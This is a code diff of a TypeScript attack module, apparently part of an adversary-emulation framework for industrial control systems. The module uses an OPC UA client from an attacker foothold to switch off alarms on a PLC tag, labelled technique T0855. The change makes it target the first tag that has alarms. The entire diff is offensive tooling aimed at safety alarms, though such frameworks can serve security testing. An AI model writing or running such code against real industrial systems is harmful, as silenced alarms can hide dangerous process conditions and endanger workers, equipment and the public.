@@ -2,12 +2,11 @@
 import { z } from 'zod'
 import type { Attack } from './attack.ts'
 import { InsistSeconds } from './insist.ts'
-import { asIdentity, OPCUA_HOSTS, opcuaAttacker, Secure, User } from './opcua-client.ts'
+import { aiming, asIdentity, OPCUA_HOSTS, opcuaAttacker, Secure, User } from './opcua-client.ts'
 import { TargetTag } from './target.ts'
-import { usualTag } from './usual-tag.ts'
 
 const Parameters = z.strictObject({
-  tag: TargetTag().optional().describe('Whose alarms are switched off; by default a measurement that the works keep a history of.'),
+  tag: TargetTag().optional().describe('Whose alarms are switched off; by default the first tag that has alarms.'),
   user: User,
   secure: Secure,
   insistSeconds: InsistSeconds
@@ -19,9 +18,16 @@ export const opcuaCall = {
   technique: 'T0855',
   needs: ['opcua'],
   parameters: Parameters,
-  async aim(foothold, { tag = usualTag(foothold.map, 'measurement'), user, secure, insistSeconds }) {
+  async aim(foothold, { tag: asked, user, secure, insistSeconds }) {
     const attacker = await opcuaAttacker(foothold)
-    const setAlarms = (on: boolean) => attacker.setAlarms({ secure }, asIdentity(user), tag, on)
+    const identity = asIdentity(user)
+    const tags = asked === undefined ? Object.keys(foothold.map.tags) : [asked]
+    const tag = await aiming(attacker, async () => {
+      const [first] = await attacker.alarmed({ secure }, identity, tags)
+      if (first === undefined) throw new Error(`${asked ?? 'the PLC'} has no alarms`)
+      return first
+    })
+    const setAlarms = (on: boolean) => attacker.setAlarms({ secure }, identity, tag, on)
     return {
       ...{ tags: [tag], hosts: OPCUA_HOSTS, insistSeconds },
       strike: async () => void (await setAlarms(false)),
